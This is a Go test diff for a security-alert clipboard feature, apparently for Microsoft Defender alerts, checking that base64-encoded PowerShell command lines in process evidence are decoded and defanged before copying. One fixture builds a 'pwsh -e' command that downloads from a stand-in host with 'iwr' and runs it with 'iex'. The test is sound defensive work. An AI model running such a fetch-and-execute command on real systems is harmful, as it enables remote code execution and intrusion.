@@ -2,6 +2,7 @@ package clipboard
 
 import (
 	"context"
+	"encoding/base64"
 	"errors"
 	"fmt"
 	"strings"
@@ -17,12 +18,13 @@ import (
 
 // store has one record.
 type store struct {
-	record alert.Record
-	err    error
+	record   alert.Record
+	evidence []alert.Evidence
+	err      error
 }
 
 func (s store) Record(context.Context, alert.Key) (alert.Record, []alert.Evidence, error) {
-	return s.record, nil, s.err
+	return s.record, s.evidence, s.err
 }
 
 const page = "https://security.microsoft.com/alerts/da1?tid=1"
@@ -153,6 +155,27 @@ func TestSpecs(t *testing.T) {
 	for _, id := range []string{"copy", "copy-", "done"} {
 		if _, ok := clip.Do(id, Target{Key: key()}); ok {
 			t.Errorf("%s is done", id)
+		}
+	}
+}
+
+// What a command line holds as base64 is copied defanged, with its own line breaks, each text once.
+func TestDecodedCommands(t *testing.T) {
+	text := "iwr https://evil.example/a\x1b\r\niex a"
+	var raw []byte
+	for _, c := range []byte(text) {
+		raw = append(raw, c, 0)
+	}
+	process := alert.Evidence{Type: "processEvidence", Props: []alert.Prop{{Name: "processCommandLine", Value: "pwsh -e " + base64.StdEncoding.EncodeToString(raw)}}}
+	for said, evidence := range map[string][]alert.Evidence{
+		"Copied the decoded text: 2 lines, 33 characters; defanged": {process, process},
+		"No command line of it holds text as base64":                {{Type: "processEvidence", Props: []alert.Prop{{Name: "processCommandLine", Value: "pwsh -e sthg"}}}},
+	} {
+		clip := New(t.Context(), Options{Store: store{record: sample(), evidence: evidence}})
+		cmd, _ := clip.Do("copy-decoded", Target{Key: key()})
+		copied, got := run(t, cmd)
+		if want := map[bool]string{true: "iwr hxxps://evil.example/a␛\niex a"}[len(evidence) == 2]; copied != want || got.Text != said {
+			t.Errorf("copied %q, said %q; want %q and %q", copied, got.Text, want, said)
 		}
 	}
 }
